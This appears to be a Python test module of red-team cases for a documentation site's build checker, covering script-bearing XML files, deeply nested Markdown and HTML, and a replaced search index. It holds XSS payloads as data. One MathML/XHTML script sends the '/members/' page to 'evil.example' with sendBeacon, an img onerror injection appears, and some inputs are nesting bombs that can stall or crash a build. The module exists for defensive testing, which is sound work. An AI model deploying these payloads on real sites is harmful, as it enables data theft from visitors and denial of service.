"""Red-team cases: files under docs_dir a browser renders as a document, though their suffix is not on the list.

A static host chooses the content type from the suffix, and every XML type (`application/*+xml`,
`text/xml`) is shown by a browser as an XML document, in which an element of the XHTML
namespace runs: `<html:script>` in a `.mml` (MathML), `.kml`, `.smil`, `.xspf`… file runs on
the site's domain. A list of suffixes never ends, so the bytes decide: a file under docs_dir
that is markup (begins with `<`) is refused unless it is a checked SVG or listed in `raw_files`.
"""

from __future__ import annotations

import json

from .cases import VALID_EVENT, VALID_ISSUE, VALID_MEMBER, Case

XHTML_SCRIPT = (
    '<math xmlns="http://www.w3.org/1998/Math/MathML" xmlns:h="http://www.w3.org/1999/xhtml">'
    "<h:script>fetch('/members/').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example/', t))</h:script>"
    "</math>"
)

PAGE_LINKING = ("content/maths.md", "# Maths\n\n[The formula](maths/formula.mml)\n")

CASES: list[Case] = [
    Case("redteam-mathml", "content/maths/formula.mml", XHTML_SCRIPT, (PAGE_LINKING,)),
    Case("redteam-kml", "content/map/offices.kml", '<?xml version="1.0"?>\n' + XHTML_SCRIPT.replace("math", "kml"), (("content/map.md", "[Offices](map/offices.kml)\n"),)),
    Case("redteam-xhtm", "content/old/page.XHTM", "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>"),
    Case("redteam-utf16-smil", "content/media/show.smil", "\ufeff".encode("utf-16-le") + "  ".encode("utf-16-le") + XHTML_SCRIPT.encode("utf-16-le")),
    Case("redteam-no-suffix", "content/downloads/readme", "<!doctype html><script>alert(document.domain)</script>"),
]

# Markdown nested deeper than Python-Markdown's recursion: a traceback in the build, nothing in `check`.
DEEP_LIST = "# Guide\n\n" + "".join("    " * level + "- step\n" for level in range(300))
CASES += [
    Case("redteam-deep-indented-list", "content/guide.md", DEEP_LIST),
    Case("redteam-deep-one-line-list", "content/about/steps.md", "---\ntitle: Steps\n---\n\n" + "- " * 2000 + "done\n"),
    Case("redteam-deep-issue", "content/newsletter/spring.md", VALID_ISSUE + "1. " * 2000 + "done\n"),
    Case("redteam-deep-member-description", "members/acme.yml", VALID_MEMBER + "description: |\n  " + "- " * 2000 + "done\n"),
    Case("redteam-deep-event-description", "events/day.yml", VALID_EVENT + "description: |\n  " + "> - " * 1000 + "done\n"),
]

# Raw HTML nested thousands deep: Material's search plugin compares every tag with every open
# element, so a 220 KB page of nested <div>s took half a minute to build, per language.
CASES += [
    Case("redteam-deep-html-page", "content/deep.md", "# Deep\n\n" + "<div>" * 20000 + "x" + "</div>" * 20000 + "\n"),
    Case("redteam-deep-html-self-closing", "content/newsletter/spring.md", VALID_ISSUE + "<span/>" * 3000 + "\n"),
    Case("redteam-deep-html-member-description", "members/acme.yml", VALID_MEMBER + "description: |\n  " + "<blockquote>" * 1600 + "x\n"),
    Case("redteam-deep-html-event-description", "events/day.yml", VALID_EVENT + "description: |\n  intro\n\n  " + "<b>" * 6000 + "x\n"),
    # A carriage return is a space inside a tag once Markdown has read it.
    Case("redteam-deep-html-carriage-return", "members/acme.yml", VALID_MEMBER + "description: " + json.dumps("Hi " + "<i\rx>y" * 3300) + "\n"),
    # Emphasis in emphasis: Python-Markdown recurses into each level (RecursionError); `[` in `[`: tried against the rest.
    Case("redteam-deep-emphasis", "content/e.md", "# T\n\n" + "*a " * 1500 + "x" + " b*" * 1500 + "\n"),
    Case("redteam-deep-brackets", "content/b.md", "# T\n\nintro\n\n" + "[" * 10000 + "\n"),
    Case("redteam-deep-emphasis-abbreviation", "members/acme.yml", VALID_MEMBER + "description: |\n  *[HTML]: Hyper\n\n  " + "*HTML " * 1000 + "x" + "*" * 1000 + "\n"),
]

# A file where another plugin writes its output: it replaced the search index, whose text Material shows as HTML.
CASES += [
    Case(
        "redteam-search-index", "content/search/search_index.json",
        '{"config":{"lang":["en"],"separator":"[\\\\s]+"},"docs":[{"location":"","title":"Home","text":"<img src=x onerror=alert(document.domain)>"}]}',
        (("content/data.md", "# Data\n\n[The index](search/search_index.json)\n"),),
    ),
    Case("redteam-sitemap-gz", "content/Sitemap.xml.gz", b"\x1f\x8b\x08\x00", (("content/data.md", "[Map](Sitemap.xml.gz)\n"),)),
]
